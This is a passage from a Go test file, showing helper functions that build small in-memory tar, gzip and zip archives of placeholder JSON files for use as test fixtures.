		if err := w.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: 3, Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		w.Write([]byte("{}\n"))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func gzipOf(t testing.TB, body string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	z.Write([]byte(body))
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// zipOf is a zip archive holding the named files.
func zipOf(t testing.TB, names ...string) string {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, n := range names {
		f, err := w.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte("{}\n"))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}
